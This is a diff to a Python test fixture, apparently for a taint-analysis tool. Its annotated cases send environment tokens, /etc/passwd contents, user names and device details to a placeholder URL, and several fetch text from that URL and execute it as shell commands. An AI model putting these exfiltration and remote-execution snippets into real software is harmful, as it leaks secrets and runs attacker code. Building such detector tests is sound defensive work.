@@ -8,6 +8,7 @@ import io
 import linecache
 import locale
 import mmap
+import optparse
 import os
 import pathlib
 import platform
@@ -33,24 +34,39 @@ def environment_variable():
     requests.post(U, data=token)  #~ sink(egress.http) f2, finding(traced) f2
 
 
+def environment_get():
+    token = os.environ.get("TOKEN", "")  #~ source(ENVIRONMENT) f3
+    requests.post(U, data=token)  #~ sink(egress.http) f3, finding(traced) f3
+
+
+def environment_copy():
+    requests.post(U, data=os.environ.copy())  #~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
+
+
+def environment_update(secret):
+    requests.post(U, data=os.environ.update({"A": os.getlogin()}))  #~ ok
+    requests.post(U, data={"ci": os.environ.get("CI") == "1"})  #~ ok
+    requests.post(U, data={"bare": os.environ.copy() == {}})  #~ ok
+
+
 def environment_presence():
     requests.post(U, data={"ci": "CI" in os.environ})  #~ ok
     requests.post(U, data={"ci": os.getenv("CI") == "1"})  #~ ok
 
 
 def list_folder():
-    names = os.listdir("/home")  #~ source(FILE_META) f4, capability(FILES)
-    requests.post(U, data=names)  #~ sink(egress.http) f4, finding(traced) f4
+    names = os.listdir("/home")  #~ source(FILE_META) f7, capability(FILES)
+    requests.post(U, data=names)  #~ sink(egress.http) f7, finding(traced) f7
 
 
 def file_attributes():
-    info = os.stat("/etc/passwd")  #~ source(FILE_META) f5, capability(FILES)
-    requests.post(U, data=str(info))  #~ sink(egress.http) f5, finding(traced) f5
+    info = os.stat("/etc/passwd")  #~ source(FILE_META) f8, capability(FILES)
+    requests.post(U, data=str(info))  #~ sink(egress.http) f8, finding(traced) f8
 
 
 def file_size():
-    size = os.path.getsize("/etc/passwd")  #~ source(FILE_META) f6
-    requests.post(U, data={"size": size})  #~ sink(egress.http) f6, finding(traced) f6
+    size = os.path.getsize("/etc/passwd")  #~ source(FILE_META) f9
+    requests.post(U, data={"size": size})  #~ sink(egress.http) f9, finding(traced) f9
 
 
 def compared():
@@ -65,23 +81,23 @@ def presence():
 
 
 def joined_path():
-    path = os.path.join("/srv", os.getenv("T"))  #~ source(ENVIRONMENT) f9
-    requests.post(U, data=path)  #~ sink(egress.http) f9, finding(traced) f9
+    path = os.path.join("/srv", os.getenv("T"))  #~ source(ENVIRONMENT) f12
+    requests.post(U, data=path)  #~ sink(egress.http) f12, finding(traced) f12
 
 
 def path_part():
-    name = os.path.basename(os.getenv("T"))  #~ source(ENVIRONMENT) f10
-    requests.post(U, data=name)  #~ sink(egress.http) f10, finding(traced) f10
+    name = os.path.basename(os.getenv("T"))  #~ source(ENVIRONMENT) f13
+    requests.post(U, data=name)  #~ sink(egress.http) f13, finding(traced) f13
 
 
 def home_folder():
-    home = os.path.expanduser("~")  #~ source(USER) f11
-    requests.post(U, data=home)  #~ sink(egress.http) f11, finding(traced) f11
+    home = os.path.expanduser("~")  #~ source(USER) f14
+    requests.post(U, data=home)  #~ sink(egress.http) f14, finding(traced) f14
 
 
 def expanded():
-    path = os.path.expanduser(os.getenv("T"))  #~ source(ENVIRONMENT) f12
-    requests.post(U, data=path)  #~ sink(egress.http) f12, finding(traced) f12
+    path = os.path.expanduser(os.getenv("T"))  #~ source(ENVIRONMENT) f15
+    requests.post(U, data=path)  #~ sink(egress.http) f15, finding(traced) f15
 
 
 def constant_paths():
@@ -91,35 +107,38 @@ def constant_paths():
 
 
 def descriptor():
-    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f14, capability(FILES)
-    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f14, finding(traced) f14
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f17, capability(FILES)
+    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f17, finding(traced) f17
 
 
 def descriptor_wrapped():
-    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f15
-    requests.post(U, data=os.fdopen(fd).read())  #~ sink(egress.http) f15, finding(traced) f15
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f18
+    requests.post(U, data=os.fdopen(fd).read())  #~ sink(egress.http) f18, finding(traced) f18
 
 
 def descriptor_copied():
-    fd = os.dup(os.open("/etc/passwd", os.O_RDONLY))  #~ source(FILE) f16
-    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f16, finding(traced) f16
+    fd = os.dup(os.open("/etc/passwd", os.O_RDONLY))  #~ source(FILE) f19
+    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f19, finding(traced) f19
 
 
 def descriptor_sent(out):
-    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f17
-    os.sendfile(out, fd, 0, 100)  #~ sink(egress.socket) f17, finding(traced) f17
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f20
+    os.sendfile(out, fd, 0, 100)  #~ sink(egress.socket) f20, finding(traced) f20
 
 
 def through_pipe():
     r, w = os.pipe()  #~ capability(IPC)
-    os.write(w, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f18, capability(FILE_WRITE)
-    requests.post(U, data=os.read(r, 100))  #~ sink(egress.http) f18, finding(traced) f18
+    os.write(w, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f21, capability(FILE_WRITE)
+    requests.post(U, data=os.read(r, 100))  #~ sink(egress.http) f21, finding(traced) f21
+
+
+def named_pipe():
+    os.mkfifo("/tmp/fifo")  #~ capability(IPC)
+    os.mkfifo("/tmp/fifo")  #~ ok
 
 
 def constant_pipe(out):
     r, w = os.pipe()  #~ ok
-    os.mkfifo("/tmp/fifo")  #~ capability(IPC)
-    os.mkfifo("/tmp/fifo")  #~ ok
     os.write(w, b"x")  #~ ok
     requests.post(U, data=os.read(r, 100))  #~ ok
     requests.post(U, data=os.fdopen(os.dup(r)).read())  #~ ok
@@ -128,24 +147,24 @@ def constant_pipe(out):
 
 
 def run_shell():
-    os.system(requests.get(U).text)  #~ source(NETWORK) f20, sink(exec.command) f20, finding(traced) f20, capability(EXEC)
+    os.system(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.command) f24, finding(traced) f24, capability(EXEC)
 
 
 def run_pipe():
-    os.popen(requests.get(U).text)  #~ source(NETWORK) f21, sink(exec.command) f21, finding(traced) f21, capability(EXEC)
+    os.popen(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.command) f25, finding(traced) f25, capability(EXEC)
 
 
 def pipe_output():
-    text = os.popen("id").read()  #~ source(COMMAND_OUTPUT) f22
-    requests.post(U, data=text)  #~ sink(egress.http) f22, finding(traced) f22
+    text = os.popen("id").read()  #~ source(COMMAND_OUTPUT) f26
+    requests.post(U, data=text)  #~ sink(egress.http) f26, finding(traced) f26
 
 
 def replace_process():
-    os.execv(requests.get(U).text, ["x"])  #~ source(NETWORK) f23, sink(exec.command) f23, finding(traced) f23
+    os.execv(requests.get(U).text, ["x"])  #~ source(NETWORK) f27, sink(exec.command) f27, finding(traced) f27
 
 
 def spawn_process():
-    os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", requests.get(U).text])  #~ source(NETWORK) f24, sink(exec.command) f24, finding(traced) f24
+    os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", requests.get(U).text])  #~ source(NETWORK) f28, sink(exec.command) f28, finding(traced) f28
 
 
 def constant_commands():
@@ -158,23 +177,23 @@ def constant_commands():
 
 
 def kernel():
-    name = os.uname()  #~ source(DEVICE) f26, capability(DEVICE)
-    requests.post(U, data=str(name))  #~ sink(egress.http) f26, finding(traced) f26
+    name = os.uname()  #~ source(DEVICE) f30, capability(DEVICE)
+    requests.post(U, data=str(name))  #~ sink(egress.http) f30, finding(traced) f30
 
 
 def machine():
-    name = platform.node()  #~ source(DEVICE) f27, capability(DEVICE)
-    requests.post(U, data=name)  #~ sink(egress.http) f27, finding(traced) f27
+    name = platform.node()  #~ source(DEVICE) f31, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f31, finding(traced) f31
 
 
 def interpreter():
-    name = sys.platform  #~ source(DEVICE) f28
-    requests.post(U, data=name)  #~ sink(egress.http) f28, finding(traced) f28
+    name = sys.platform  #~ source(DEVICE) f32
+    requests.post(U, data=name)  #~ sink(egress.http) f32, finding(traced) f32
 
 
 def windows():
-    name = sys.getwindowsversion()  #~ source(DEVICE) f29
-    requests.post(U, data=str(name))  #~ sink(egress.http) f29, finding(traced) f29
+    name = sys.getwindowsversion()  #~ source(DEVICE) f33
+    requests.post(U, data=str(name))  #~ sink(egress.http) f33, finding(traced) f33
 
 
 def machine_compared():
@@ -185,7 +204,7 @@ def machine_compared():
 
 
 def arguments():
-    requests.post(U, data=sys.argv[1])  #~ source(INPUT) f31, sink(egress.http) f31, finding(traced) f31
+    requests.post(U, data=sys.argv[1])  #~ source(INPUT) f35, sink(egress.http) f35, finding(traced) f35
 
 
 def arguments_counted():
@@ -193,19 +212,24 @@ def arguments_counted():
 
 
 def standard_input():
-    text = sys.stdin.read()  #~ source(INPUT) f33
-    requests.post(U, data=text)  #~ sink(egress.http) f33, finding(traced) f33
+    text = sys.stdin.read()  #~ source(INPUT) f37
+    requests.post(U, data=text)  #~ sink(egress.http) f37, finding(traced) f37
 
 
 def input_files():
-    for line in fileinput.input():  #~ source(INPUT) f34
-        requests.post(U, data=line)  #~ sink(egress.http) f34, finding(traced) f34
+    for line in fileinput.input():  #~ source(INPUT) f38
+        requests.post(U, data=line)  #~ sink(egress.http) f38, finding(traced) f38
 
 
 def parsed_arguments():
     parser = argparse.ArgumentParser()
-    args = parser.parse_args()  #~ source(INPUT) f35
-    requests.post(U, data=args.name)  #~ sink(egress.http) f35, finding(traced) f35
+    args = parser.parse_args()  #~ source(INPUT) f39
+    requests.post(U, data=args.name)  #~ sink(egress.http) f39, finding(traced) f39
+
+
+def parsed_arguments_old():
+    options, names = optparse.OptionParser().parse_args()  #~ source(INPUT) f40
+    requests.post(U, data=options.name)  #~ sink(egress.http) f40, finding(traced) f40
 
 
 def input_compared():
@@ -216,28 +240,28 @@ def input_compared():
 
 
 def login():
-    name = os.getlogin()  #~ source(USER) f37
-    requests.post(U, data=name)  #~ sink(egress.http) f37, finding(traced) f37
+    name = os.getlogin()  #~ source(USER) f42
+    requests.post(U, data=name)  #~ sink(egress.http) f42, finding(traced) f42
 
 
 def user_name():
-    name = getpass.getuser()  #~ source(USER) f38, capability(DEVICE)
-    requests.post(U, data=name)  #~ sink(egress.http) f38, finding(traced) f38
+    name = getpass.getuser()  #~ source(USER) f43, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f43, finding(traced) f43
 
 
 def accounts():
-    names = pwd.getpwall()  #~ source(USER) f39
-    requests.post(U, data=str(names))  #~ sink(egress.http) f39, finding(traced) f39
+    names = pwd.getpwall()  #~ source(USER) f44
+    requests.post(U, data=str(names))  #~ sink(egress.http) f44, finding(traced) f44
 
 
 def working_folder():
-    folder = os.getcwd()  #~ source(FILE_META) f40
-    requests.post(U, data=folder)  #~ sink(egress.http) f40, finding(traced) f40
+    folder = os.getcwd()  #~ source(FILE_META) f45
+    requests.post(U, data=folder)  #~ sink(egress.http) f45, finding(traced) f45
 
 
 def process_number():
-    pid = os.getpid()  #~ source(PROCESS) f41
-    requests.post(U, data={"pid": pid})  #~ sink(egress.http) f41, finding(traced) f41
+    pid = os.getpid()  #~ source(PROCESS) f46
+    requests.post(U, data={"pid": pid})  #~ sink(egress.http) f46, finding(traced) f46
 
 
 def users_compared():
@@ -249,23 +273,23 @@ def users_compared():
 
 
 def host_name():
-    name = socket.gethostname()  #~ source(DEVICE) f43, capability(DEVICE)
-    requests.post(U, data=name)  #~ sink(egress.http) f43, finding(traced) f43
+    name = socket.gethostname()  #~ source(DEVICE) f48, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f48, finding(traced) f48
 
 
 def interfaces():
-    names = socket.if_nameindex()  #~ source(DEVICE) f44
-    requests.post(U, data=str(names))  #~ sink(egress.http) f44, finding(traced) f44
+    names = socket.if_nameindex()  #~ source(DEVICE) f49
+    requests.post(U, data=str(names))  #~ sink(egress.http) f49, finding(traced) f49
 
 
 def hardware_address():
-    address = uuid.getnode()  #~ source(DEVICE) f45
-    requests.post(U, data={"mac": address})  #~ sink(egress.http) f45, finding(traced) f45
+    address = uuid.getnode()  #~ source(DEVICE) f50
+    requests.post(U, data={"mac": address})  #~ sink(egress.http) f50, finding(traced) f50
 
 
 def language():
-    name = locale.getlocale()  #~ source(DEVICE) f46
-    requests.post(U, data=name[0])  #~ sink(egress.http) f46, finding(traced) f46
+    name = locale.getlocale()  #~ source(DEVICE) f51
+    requests.post(U, data=name[0])  #~ sink(egress.http) f51, finding(traced) f51
 
 
 def device_compared():
@@ -292,8 +316,8 @@ def copy_file():
 
 def copy_stream():
     target = io.BytesIO()
-    shutil.copyfileobj(open("/etc/passwd", "rb"), target)  #~ source(FILE) f51
-    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f51, finding(traced) f51
+    shutil.copyfileobj(open("/etc/passwd", "rb"), target)  #~ source(FILE) f56
+    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f56, finding(traced) f56
 
 
 def copy_constant_stream():
@@ -306,13 +330,16 @@ def archive():
     name = shutil.make_archive("/tmp/out", "zip", "/home")  #~ capability(FILES), capability(FILE_WRITE)
     requests.post(U, data=name)  #~ ok
     shutil.make_archive("/tmp/out", "zip", "/home")  #~ ok
+
+
+def unarchive():
     shutil.unpack_archive("/tmp/in.zip", "/tmp")  #~ capability(FILE_WRITE)
     shutil.unpack_archive("/tmp/in.zip", "/tmp")  #~ ok
 
 
 def disk():
-    space = shutil.disk_usage("/")  #~ source(DEVICE) f54
-    requests.post(U, data=str(space))  #~ sink(egress.http) f54, finding(traced) f54
+    space = shutil.disk_usage("/")  #~ source(DEVICE) f60
+    requests.post(U, data=str(space))  #~ sink(egress.http) f60, finding(traced) f60
 
 
 def disk_compared():
@@ -320,13 +347,13 @@ def disk_compared():
 
 
 def find_files():
-    names = glob.glob("/home/*")  #~ source(FILE_META) f56, capability(FILES)
-    requests.post(U, data=names)  #~ sink(egress.http) f56, finding(traced) f56
+    names = glob.glob("/home/*")  #~ source(FILE_META) f62, capability(FILES)
+    requests.post(U, data=names)  #~ sink(egress.http) f62, finding(traced) f62
 
 
 def filter_names():
-    names = fnmatch.filter(os.listdir("/home"), "*.txt")  #~ source(FILE_META) f57
-    requests.post(U, data=names)  #~ sink(egress.http) f57, finding(traced) f57
+    names = fnmatch.filter(os.listdir("/home"), "*.txt")  #~ source(FILE_META) f63
+    requests.post(U, data=names)  #~ sink(egress.http) f63, finding(traced) f63
 
 
 def names_compared():
@@ -335,8 +362,8 @@ def names_compared():
 
 
 def one_line():
-    line = linecache.getline("/etc/passwd", 1)  #~ source(FILE) f59, capability(FILES)
-    requests.post(U, data=line)  #~ sink(egress.http) f59, finding(traced) f59
+    line = linecache.getline("/etc/passwd", 1)  #~ source(FILE) f65, capability(FILES)
+    requests.post(U, data=line)  #~ sink(egress.http) f65, finding(traced) f65
 
 
 def one_line_compared():
@@ -344,9 +371,9 @@ def one_line_compared():
 
 
 def mapped():
-    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f61
-    view = mmap.mmap(fd, 0)  #~ capability(FILES)
-    requests.post(U, data=view.read(10))  #~ sink(egress.http) f61, finding(traced) f61
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f67
+    view = mmap.mmap(fd, 0)
+    requests.post(U, data=view.read(10))  #~ sink(egress.http) f67, finding(traced) f67
 
 
 def mapped_anonymous():
@@ -356,15 +383,18 @@ def mapped_anonymous():
 
 def temporary_file():
     f = tempfile.NamedTemporaryFile()  #~ capability(FILE_WRITE)
-    f.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f63
+    f.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f69
     f.seek(0)
-    requests.post(U, data=f.read())  #~ sink(egress.http) f63, finding(traced) f63
+    requests.post(U, data=f.read())  #~ sink(egress.http) f69, finding(traced) f69
 
 
 def temporary_descriptor():
     fd, path = tempfile.mkstemp()  #~ capability(FILE_WRITE)
-    os.write(fd, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f64
-    requests.post(U, data=os.read(os.open(path, os.O_CREAT), 10))  #~ sink(egress.http) fmk, finding(traced) fmk
+    os.write(fd, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f70
+    requests.post(U, data=open(path, "a+").read())  #~ sink(egress.http) f70, finding(traced) f70
+
+
+def temporary_folder():
     tempfile.mkdtemp()  #~ capability(FILE_WRITE)
 
 
@@ -377,13 +407,13 @@ def temporary_constant():
 
 
 def path_read():
-    text = pathlib.Path("/etc/passwd").read_text()  #~ source(FILE) f66, capability(FILES)
-    requests.post(U, data=text)  #~ sink(egress.http) f66, finding(traced) f66
+    text = pathlib.Path("/etc/passwd").read_text()  #~ source(FILE) f73, capability(FILES)
+    requests.post(U, data=text)  #~ sink(egress.http) f73, finding(traced) f73
 
 
 def path_read_untyped(path):
-    text = path.read_text()  #~ source(FILE) f67, capability(FILES)
-    requests.post(U, data=text)  #~ sink(egress.http) f67, finding(traced) f67
+    text = path.read_text()  #~ source(FILE) f74, capability(FILES)
+    requests.post(U, data=text)  #~ sink(egress.http) f74, finding(traced) f74
 
 
 def path_write():
@@ -397,14 +427,14 @@ def path_write_untyped(path):
 
 
 def path_open():
-    f = pathlib.Path("/etc/passwd").open()  #~ source(FILE) f70, capability(FILES)
-    requests.post(U, data=f.read())  #~ sink(egress.http) f70, finding(traced) f70
+    f = pathlib.Path("/etc/passwd").open()  #~ source(FILE) f77, capability(FILES)
+    requests.post(U, data=f.read())  #~ sink(egress.http) f77, finding(traced) f77
 
 
 def path_open_write():
     path = pathlib.Path("/tmp/x")
-    path.open("w").write(os.getenv("T"))  #~ source(ENVIRONMENT) f71
-    requests.post(U, data=path.open("w+").read())  #~ sink(egress.http) f71, finding(traced) f71
+    path.open("w").write(os.getenv("T"))  #~ source(ENVIRONMENT) f78
+    requests.post(U, data=path.open("w+").read())  #~ sink(egress.http) f78, finding(traced) f78
 
 
 def path_open_constant():
@@ -415,26 +445,26 @@ def path_open_constant():
 
 
 def path_home():
-    requests.post(U, data=pathlib.Path.home().as_posix())  #~ source(USER) f73, sink(egress.http) f73, finding(traced) f73
+    requests.post(U, data=pathlib.Path.home().as_posix())  #~ source(USER) f80, sink(egress.http) f80, finding(traced) f80
 
 
 def path_cwd():
-    requests.post(U, data=pathlib.Path.cwd().as_posix())  #~ source(FILE_META) f74, sink(egress.http) f74, finding(traced) f74
+    requests.post(U, data=pathlib.Path.cwd().as_posix())  #~ source(FILE_META) f81, sink(egress.http) f81, finding(traced) f81
 
 
 def path_list():
-    for item in pathlib.Path("/home").iterdir():  #~ source(FILE_META) f75, capability(FILES)
-        requests.post(U, data=item.name)  #~ sink(egress.http) f75, finding(traced) f75
+    for item in pathlib.Path("/home").iterdir():  #~ source(FILE_META) f82, capability(FILES)
+        requests.post(U, data=item.name)  #~ sink(egress.http) f82, finding(traced) f82
 
 
 def path_from_parts():
-    path = pathlib.Path("/home", os.getenv("T"))  #~ source(ENVIRONMENT) f76
-    requests.post(U, data=path.name)  #~ sink(egress.http) f76, finding(traced) f76
+    path = pathlib.Path("/home", os.getenv("T"))  #~ source(ENVIRONMENT) f83
+    requests.post(U, data=path.name)  #~ sink(egress.http) f83, finding(traced) f83
 
 
 def path_joined():
-    path = pathlib.Path("/home").joinpath(os.getenv("T"))  #~ source(ENVIRONMENT) f77
-    requests.post(U, data=path.as_posix())  #~ sink(egress.http) f77, finding(traced) f77
+    path = pathlib.Path("/home").joinpath(os.getenv("T"))  #~ source(ENVIRONMENT) f84
+    requests.post(U, data=path.as_posix())  #~ sink(egress.http) f84, finding(traced) f84
 
 
 def path_constants():
